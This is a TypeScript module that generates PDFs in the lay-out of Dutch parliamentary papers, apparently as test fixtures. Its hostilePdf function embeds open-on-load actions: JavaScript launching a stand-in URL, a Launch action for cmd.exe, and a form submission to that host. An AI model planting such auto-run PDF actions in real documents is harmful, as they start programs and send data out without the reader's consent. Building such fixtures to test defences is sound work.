import { sessionYear, type ReplicaDocument } from "../document.ts";

// Pages of 558 × 771 points with a margin column, a body column and a footer, as published kamerstukken have.
const page = { width: 558, height: 771, bodyX: 221, marginX: 55, top: 720, bottom: 70, lineHeight: 12, size: 9 };
const charactersPerLine = 68;

// WinAnsi codes of the few signs outside Latin-1 that our texts hold.
const winAnsi: Readonly<Record<string, number>> = { "€": 0x80, "‘": 0x91, "’": 0x92, "“": 0x93, "”": 0x94, "–": 0x96 };

/** A PDF string literal in WinAnsi, every byte outside ASCII as an octal escape. */
function literal(text: string): string {
  const escaped = text.split("").map((sign) => {
    const code = winAnsi[sign] ?? sign.charCodeAt(0);
    if (sign === "(" || sign === ")" || sign === "\\") return `\\${sign}`;
    return code > 126 ? `\\${code.toString(8).padStart(3, "0")}` : sign;
  });
  return `(${escaped.join("")})`;
}

/** Words over lines of the body column; a long word at the end of a line is cut with a hyphen. */
function bodyLines(paragraph: string): readonly string[] {
  const lines: string[] = [];
  let line = "";
  for (const word of paragraph.split(" ")) {
    const room = charactersPerLine - line.length - 1;
    if (word.length <= room || line === "") {
      line = line === "" ? word : `${line} ${word}`;
    } else if (/^[a-z]{14,}$/.test(word) && room > 7) {
      lines.push(`${line} ${word.slice(0, 6)}-`);
      line = word.slice(6);
    } else {
      lines.push(line);
      line = word;
    }
  }
  return [...lines, line];
}

type Placed = { readonly x: number; readonly y: number; readonly text: string };

const perPage = Math.floor((page.top - page.bottom) / page.lineHeight);

function layOut(stuk: ReplicaDocument): readonly (readonly Placed[])[] {
  const head = [stuk.dossierTitle, stuk.heading, stuk.dateLine];
  const lines = [...head, ...stuk.body].flatMap((paragraph) => [...bodyLines(paragraph), ""]);
  const count = Math.ceil(lines.length / perPage);
  const footer = `Tweede Kamer, vergaderjaar ${sessionYear(stuk.date)}, ${stuk.dossier}, nr. ${stuk.nr}`;
  return Array.from({ length: count }, (_, index) => [
    ...(index === 0 ? marginOf(stuk) : []),
    ...lines.slice(index * perPage, (index + 1) * perPage).flatMap((text, row) => {
      return text === "" ? [] : [{ x: page.bodyX, y: page.top - row * page.lineHeight, text }];
    }),
    { x: page.bodyX, y: 35, text: footer },
    { x: 500, y: 35, text: String(index + 1) },
  ]);
}

function marginOf(stuk: ReplicaDocument): readonly Placed[] {
  const titleRows = bodyLines(stuk.dossierTitle).length + 1;
  return [
    { x: page.bodyX, y: 750, text: `Tweede Kamer der Staten-Generaal 2 Vergaderjaar ${sessionYear(stuk.date)}` },
    { x: page.marginX, y: page.top, text: stuk.dossier },
    { x: page.marginX, y: page.top - titleRows * page.lineHeight, text: `Nr. ${stuk.nr}` },
    { x: page.marginX, y: 60, text: `kst-${stuk.dossier.replaceAll(" ", "-").replace("-", "")}-${stuk.nr}` },
    { x: page.marginX, y: 48, text: "ISSN 0921 - 7371" },
    { x: page.marginX, y: 36, text: "’s-Gravenhage 2026" },
  ];
}

const textStream = (placed: readonly Placed[]): string =>
  placed.map(({ x, y, text }) => `BT /F1 ${page.size} Tf 1 0 0 1 ${x} ${y} Tm ${literal(text)} Tj ET`).join("\n");

/** A PDF from the content streams of its pages; object numbers: 1 catalog, 2 pages, 3 font, then page and stream in turn. */
function pdf(streams: readonly string[], catalog = ""): Uint8Array {
  const kids = streams.map((_, index) => `${4 + index * 2} 0 R`).join(" ");
  const objects = [
    `<< /Type /Catalog /Pages 2 0 R ${catalog} >>`,
    `<< /Type /Pages /Kids [${kids}] /Count ${streams.length} >>`,
    "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>",
    ...streams.flatMap((stream, index) => [
      `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 ${page.width} ${page.height}] /Resources << /Font << /F1 3 0 R >> >> /Contents ${5 + index * 2} 0 R >>`,
      `<< /Length ${stream.length} >>\nstream\n${stream}\nendstream`,
    ]),
  ];
  let body = "%PDF-1.4\n";
  const offsets = objects.map((object, index) => {
    const offset = body.length;
    body += `${index + 1} 0 obj\n${object}\nendobj\n`;
    return `${String(offset).padStart(10, "0")} 00000 n \n`;
  });
  const table = `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${offsets.join("")}`;
  const trailer = `trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${body.length}\n%%EOF\n`;
  return new TextEncoder().encode(body + table + trailer);
}

/** The document as a PDF in the lay-out of published kamerstukken. */
export const pdfFile = (stuk: ReplicaDocument): Uint8Array => pdf(layOut(stuk).map(textStream));

/** The same, with a script, a program and a form that a viewer would start on opening it. */
export const hostilePdf = (stuk: ReplicaDocument): Uint8Array => {
  const script = "/S /JavaScript /JS (app.launchURL\\('https://vreemd.example'\\))";
  const program = "/Next << /S /Launch /F (cmd.exe) /Next << /S /SubmitForm /F (https://vreemd.example) >> >>";
  const named = `/Names << /JavaScript << /Names [(a) << ${script} >>] >> >>`;
  return pdf(layOut(stuk).map(textStream), `/OpenAction << ${script} ${program} >> ${named}`);
};

/** A PDF of two pages that hold only a drawing, as a scanner makes them. */
export const scannedPdfFile = (): Uint8Array => pdf(["0.9 g 40 40 478 691 re f", "0.9 g 40 40 478 691 re f"]);
